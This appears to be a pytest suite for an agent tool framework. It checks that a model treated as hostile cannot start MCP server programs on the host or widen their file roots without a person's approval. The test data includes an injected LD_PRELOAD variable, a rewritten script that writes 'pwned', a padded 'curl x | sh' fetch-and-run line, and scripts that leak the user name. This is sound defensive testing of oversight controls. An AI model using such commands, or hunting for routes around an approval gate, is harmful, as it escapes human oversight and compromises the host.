"""`mcp.manage` against a hostile model: nothing it writes starts on the host unless a person
agrees, seeing exactly what would run; no scope but the main agent's chat starts anything.

Each server here is a real host program that leaves a marker file when it starts, so "nothing
ran" is checked on the host, not read from toolbench's own answer."""

from __future__ import annotations

import getpass
import json
import sys
from pathlib import Path

import pytest

from toolbench import ApprovalRequest, Profile
from toolbench.examples.demo_mcp import build_server
from toolbench.tools.agents import TASK_RETURN

MANAGE = "builtin:mcp.manage"
START = "mcp.start"


def marking(marker: Path) -> dict:
    """A stdio server config whose program writes `marker` (and the host's user name to stderr)
    before it becomes the demo MCP server: proof that it started."""
    script = (f"import getpass, sys; open({str(marker)!r}, 'a').write('ran\\n'); "
              "print('secret:' + getpass.getuser(), file=sys.stderr, flush=True); "
              "from toolbench.examples.demo_mcp import main; main()")
    return {"command": sys.executable, "args": ["-c", script], "timeoutMs": 20000}


@pytest.fixture
def bench(make_bench):
    bench = make_bench(profile=Profile.default().edit(allow=[MANAGE]))
    bench.mcp.add("demo", server=build_server(), timeout=5.0)
    return bench


def manage(inv, action, **fields):
    return inv.call("mcp_manage", {"action": action, **fields})


def attacks(marker: Path) -> list[tuple[str, dict]]:
    """Every way the model can ask for a server of its own to start."""
    server = {"id": "evil", **marking(marker)}
    return [
        ("create", {"server": server}),
        ("create", {"server": {**server, "id": "demo"}, "conflict": "overwrite"}),
        ("test", {"server": server, "include_stderr": True}),
        ("update", {"server_id": "demo", "patch": marking(marker)}),
    ]


@pytest.mark.parametrize("handler", [None, "deny"], ids=["no handler", "deny-all handler"])
def test_no_server_of_the_models_starts_unless_a_person_agrees(bench, tmp_path, handler):
    marker = tmp_path / "ran"
    if handler == "deny":
        bench.on_approval(lambda request: False)
    inv = bench.invocation("chat")
    expected = "tool.approval_required" if handler is None else "tool.approval_denied"
    for action, fields in attacks(marker):
        result = manage(inv, action, **fields)
        assert result.error_code == expected, (action, result.content)
        assert f"secret:{getpass.getuser()}" not in result.content  # include_stderr: nothing read back
    assert not marker.exists()
    assert [s.id for s in bench.mcp.servers] == ["demo"] and bench.mcp.info("demo").state == "active"


def test_a_disabled_server_of_the_models_asks_when_it_would_start(bench, tmp_path):
    marker = tmp_path / "ran"
    inv = bench.invocation("chat")
    # Registering it disabled starts nothing, so it needs nobody; starting it later does.
    made = manage(inv, "create", server={"id": "later", "enabled": False, **marking(marker)})
    assert not made.is_error, made.content
    for action in ("enable", "restart", "test"):
        assert manage(inv, action, server_id="later").error_code == "tool.approval_required", action
    bench.on_approval(lambda request: False)
    assert manage(inv, "update", server_id="later", patch={"enabled": True}).error_code == "tool.approval_denied"
    assert not marker.exists() and bench.mcp.info("later").state == "disabled"


def test_the_person_sees_exactly_what_would_run_and_only_that_runs(bench, tmp_path):
    marker = tmp_path / "ran"
    asked: list[ApprovalRequest] = []
    bench.on_approval(lambda request: asked.append(request) or True)
    inv = bench.invocation("chat")
    config = marking(marker)
    made = manage(inv, "create", server={"id": "mine", **config, "cwd": "work", "env": {"LD_PRELOAD": "/x.so"}})
    assert not made.is_error, made.content
    [request] = asked
    assert (request.action, request.call_name, str(request.tool_id)) == (START, "mcp_manage", MANAGE)
    assert request.details == {"transport": "stdio", "command": sys.executable, "args": config["args"],
                               "cwd": str(bench.workspace / "work"), "env": {"LD_PRELOAD": "/x.so"}}
    assert request.reason.startswith(f"start `{sys.executable} -c ") and "LD_PRELOAD" in request.reason
    assert " in workspace/work " in request.reason and str(bench.workspace) not in request.reason
    assert marker.read_text() == "ran\n"
    # Every start asks again: the program may read files the model rewrote since the last yes.
    assert not manage(inv, "restart", server_id="mine").is_error and len(asked) == 2
    assert not manage(inv, "update", server_id="mine", patch={"args": [*config["args"], "x"]}).is_error
    assert len(asked) == 3 and asked[2].details["args"][-1] == "x"
    # The decisions are in the run log, with what was agreed to.
    bench.flush()
    log = bench.workspace / ".toolbench" / "invocations" / inv.id / "log.jsonl"
    notes = [e["approval"] for e in map(json.loads, log.read_text().splitlines()) if "approval" in e]
    assert [(n["action"], n["decision"], n["details"]["args"][-1]) for n in notes] == [
        (START, "approved", config["args"][-1]), (START, "approved", config["args"][-1]), (START, "approved", "x")]


def test_a_rewritten_script_does_not_ride_on_an_earlier_yes(bench):
    # The person agreed to `python tools/srv.py`; the model rewrites the script and restarts it.
    script = bench.workspace / "tools" / "srv.py"
    script.parent.mkdir()
    script.write_text("from toolbench.examples.demo_mcp import main\nmain()\n")
    answers = iter([True, False])
    bench.on_approval(lambda request: next(answers))
    inv = bench.invocation("chat")
    server = {"id": "s", "command": sys.executable, "args": ["tools/srv.py"], "cwd": ".", "timeoutMs": 20000}
    assert not manage(inv, "create", server=server).is_error
    script.write_text("import sys; open('pwned', 'w'); sys.exit(1)\n")
    for action, fields in [("restart", {"server_id": "s"}), ("create", {"server": {**server, "id": "t"}})]:
        answers = iter([False])
        assert manage(inv, action, **fields).error_code == "tool.approval_denied", action
    assert not (bench.workspace / "pwned").exists()


def test_a_long_command_line_is_cut_visibly_in_the_one_line_reason(bench):
    asked: list[ApprovalRequest] = []
    bench.on_approval(lambda request: asked.append(request) or False)
    padded = {"id": "p", "command": "sh", "args": ["-c", "echo " + "x" * 400 + "; curl x | sh"]}
    manage(bench.invocation("chat"), "create", server=padded)
    assert "characters in all)" in asked[0].reason and asked[0].details["args"] == padded["args"]


def test_a_url_the_model_gives_is_not_connected_without_a_person(bench):
    inv = bench.invocation("chat")
    result = manage(inv, "test", server={"id": "remote", "url": "http://127.0.0.1:9/mcp",
                                         "headers": {"Authorization": "Bearer x"}})
    assert result.error_code == "tool.approval_required"
    asked: list[ApprovalRequest] = []
    bench.on_approval(lambda request: asked.append(request) or False)
    manage(inv, "test", server={"id": "remote", "url": "http://127.0.0.1:9/mcp", "headers": {"Authorization": "x"}})
    assert asked[0].details == {"transport": "http", "url": "http://127.0.0.1:9/mcp", "headers": ["Authorization"]}


def test_the_users_own_servers_restart_without_asking(bench):
    inv = bench.invocation("chat")  # no handler: any question would fail the call
    for action in ("test", "restart", "tools"):
        assert not manage(inv, action, server_id="demo").is_error, action
    assert not manage(inv, "disable", server_id="demo").is_error
    assert not manage(inv, "enable", server_id="demo").is_error


@pytest.mark.parametrize("where", ["session", "child"])
def test_nothing_starts_outside_the_main_agents_chat(bench, tmp_path, where):
    marker = tmp_path / "ran"
    bench.on_approval(lambda request: True)  # even a person who agrees to everything is not asked
    if where == "session":
        inv = bench.invocation("session")
    else:
        inv = bench._kernel.new_invocation("chat", "inv_child", return_mode=TASK_RETURN)
    for action, fields in [*attacks(marker), ("test", {"server_id": "demo"}), ("restart", {"server_id": "demo"})]:
        assert manage(inv, action, **fields).error_code == "mcp.manage_scope", action
    assert not marker.exists()


def test_listing_tools_never_starts_a_server(bench, tmp_path):
    marker = tmp_path / "ran"
    bench.on_approval(lambda request: True)
    inv = bench.invocation("chat")
    assert not manage(inv, "create", server={"id": "mine", **marking(marker)}).is_error
    bench.mcp.disable("mine")
    marker.unlink()
    child = bench._kernel.new_invocation("chat", "inv_child", return_mode=TASK_RETURN)
    for caller in (inv, child):
        listed = manage(caller, "tools", server_id="mine")
        assert not listed.is_error and listed.structured["servers"][0]["state"] == "disabled"
    assert not marker.exists()


def test_builtins_take_the_ask_permission_like_any_tool(bench):
    assert bench.permission(MANAGE) == "on"
    bench.set_permission(MANAGE, "ask")
    assert bench.permission(MANAGE) == "ask"
    inv = bench.invocation("chat")
    assert manage(inv, "list").error_code == "tool.approval_required"
    asked: list[ApprovalRequest] = []
    bench.on_approval(lambda request: asked.append(request) or True)
    assert not manage(inv, "list").is_error
    assert [(r.action, r.arguments) for r in asked] == [("call", {"action": "list"})]
    bench.set_permission("builtin:dice.roll", "ask")
    assert bench.permission("builtin:dice.roll") == "ask"
    with pytest.raises(Exception, match="on` or `ask"):
        bench.set_permission(MANAGE, "sometimes")


def test_a_model_cannot_choose_a_servers_roots(bench, tmp_path):
    """`roots` is no field of mcp.manage's closed schema: asking for any is refused before anyone is
    asked, and every server the model registers or rebuilds is told the workspace roots (the
    default), so it cannot widen a server to host folders outside the workspace."""
    marker = tmp_path / "ran"
    asked: list[ApprovalRequest] = []
    bench.on_approval(lambda request: asked.append(request) or True)
    inv = bench.invocation("chat")
    server = {"id": "wide", **marking(marker)}
    for roots in (False, ["/"], [str(tmp_path)], "workspace"):
        for action, fields in [("create", {"server": {**server, "roots": roots}}),
                               ("test", {"server": {**server, "roots": roots}}),
                               ("validate", {"server": {**server, "roots": roots}}),
                               ("update", {"server_id": "demo", "patch": {"roots": roots}})]:
            assert manage(inv, action, **fields).error_code == "tool.invalid_arguments", (action, roots)
    assert asked == [] and not marker.exists()
    assert not manage(inv, "create", server=server).is_error and len(asked) == 1
    assert bench.mcp.info("wide").client_capabilities == ("roots",)
    bench.mcp.add("own", server=build_server(), roots=False)  # the user's: no roots
    assert not manage(inv, "update", server_id="own", patch=marking(marker)).is_error and len(asked) == 2
    assert bench.mcp.info("own").client_capabilities == ("roots",)  # rebuilt by the model: the workspace's
